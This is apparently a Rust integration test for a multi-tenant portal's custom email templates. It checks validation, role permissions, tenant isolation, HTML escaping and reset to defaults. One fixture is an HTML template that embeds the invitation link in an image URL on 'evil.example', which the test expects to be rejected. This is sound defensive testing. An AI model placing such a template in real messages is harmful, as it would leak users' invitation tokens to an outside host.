//! A tenant writes its own message templates: checked against a sample
//! before they are stored (a name the kind does not give is refused), used
//! for the tenant's next messages (the link still put in, the HTML still
//! escaped), invisible to other tenants, and removable.

use mail_parser::MessageParser;
use mpanel_domain::identity::Role;
use serde_json::{Value, json};

use crate::inbox;
use crate::support::{Account, TestApp, problem};

async fn admin(app: &TestApp, slug: &str) -> Account {
    app.account(slug, &format!("admin@{slug}.test"), Role::TenantAdmin)
        .await
}

fn own_invitation() -> Value {
    json!({
        "subject": "Welcome aboard, {{ name }}",
        "text": "Dear {{ name }}, start here: {{ link }} (until {{ expires_at }})\n",
        "html": "<p>Dear {{ name }}, <a href=\"{{ link }}\">start here</a></p>\n",
    })
}

#[tokio::test]
async fn a_tenants_own_template_is_checked_used_and_kept_to_itself() {
    let app = TestApp::start().await;
    let boss = admin(&app, "brandco").await;
    let path = "/api/notifications/templates/INVITATION";

    let list: Value = app
        .get_as(&boss.access_token, "/api/notifications/templates")
        .await
        .json()
        .await
        .unwrap();
    let invitation = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["kind"] == "INVITATION")
        .unwrap()
        .clone();
    assert_eq!(invitation["custom"], false);
    assert!(
        invitation["variables"]
            .as_array()
            .unwrap()
            .contains(&json!("link"))
    );

    // A name the kind does not give, and an unknown kind, are refused.
    let mut bad = own_invitation();
    bad["text"] = json!("{{ password_hash }}");
    let mut leaky = own_invitation();
    leaky["html"] = json!("<img src=\"https://evil.example/{{ link }}\">");
    let res = app
        .call(
            reqwest::Method::PUT,
            path,
            Some(&boss.access_token),
            Some(leaky),
        )
        .await;
    assert_eq!(res.status(), 422, "the link may not leave the portal");
    assert_eq!(problem(res).await["field"], "html");
    let res = app
        .call(
            reqwest::Method::PUT,
            path,
            Some(&boss.access_token),
            Some(bad),
        )
        .await;
    assert_eq!(res.status(), 422);
    assert_eq!(problem(res).await["field"], "text");
    let res = app
        .call(
            reqwest::Method::PUT,
            "/api/notifications/templates/NOPE",
            Some(&boss.access_token),
            Some(own_invitation()),
        )
        .await;
    assert_eq!(res.status(), 404);
    // Billing staff read but do not write templates.
    let billing = app
        .account("brandco", "billing@brandco.test", Role::Billing)
        .await;
    assert_eq!(app.get_as(&billing.access_token, path).await.status(), 200);
    let res = app
        .call(
            reqwest::Method::PUT,
            path,
            Some(&billing.access_token),
            Some(own_invitation()),
        )
        .await;
    assert_eq!(res.status(), 403);

    let res = app
        .call(
            reqwest::Method::PUT,
            path,
            Some(&boss.access_token),
            Some(own_invitation()),
        )
        .await;
    assert_eq!(res.status(), 200);
    let saved: Value = res.json().await.unwrap();
    assert_eq!(saved["template"]["custom"], true);
    assert_eq!(saved["preview"]["subject"], "Welcome aboard, Jane Doe");

    // Another tenant still has the built-in one.
    let other = admin(&app, "plainco").await;
    let theirs: Value = app
        .get_as(&other.access_token, path)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(theirs["custom"], false);

    // The next invitation uses it: the link put in, the name escaped.
    let to = format!("eve-{}@customer.test", uuid::Uuid::now_v7().simple());
    let res = app
        .post_as(
            &boss.access_token,
            "/api/customers",
            json!({"email": to, "name": "<b>Eve</b>", "country": "FR"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    inbox::run_mail_jobs(&app, &inbox::relay_mailer()).await;
    let raw = inbox::messages(&to, 1).await.remove(0);
    let message = MessageParser::default().parse(&raw).unwrap();
    assert_eq!(message.subject(), Some("Welcome aboard, <b>Eve</b>"));
    let text = message.body_text(0).unwrap();
    assert!(
        text.contains("start here: http://localhost:2271/invitation#token=mplk_"),
        "{text}"
    );
    let html = message.body_html(0).unwrap();
    assert!(html.contains("Dear &lt;b&gt;Eve&lt;/b&gt;"), "{html}");
    assert!(
        html.contains("href=\"http://localhost:2271/invitation#token=mplk_"),
        "{html}"
    );

    // A staff member's link never comes in a tenant's template.
    let staff = format!("sam-{}@customer.test", uuid::Uuid::now_v7().simple());
    let res = app
        .post_as(
            &boss.access_token,
            "/api/users",
            json!({"email": staff, "display_name": "Sam", "role": "SUPPORT"}),
        )
        .await;
    assert_eq!(res.status(), 201);
    inbox::run_mail_jobs(&app, &inbox::relay_mailer()).await;
    let raw = inbox::messages(&staff, 1).await.remove(0);
    let message = MessageParser::default().parse(&raw).unwrap();
    assert_eq!(message.subject(), Some("Your account at brandco"));

    // Back to the built-in templates.
    let res = app
        .call(
            reqwest::Method::DELETE,
            path,
            Some(&boss.access_token),
            None,
        )
        .await;
    assert_eq!(res.status(), 200);
    let now: Value = app
        .get_as(&boss.access_token, path)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(now["custom"], false);
    assert_eq!(now["subject"], "Your account at {{ tenant_name }}\n");
}
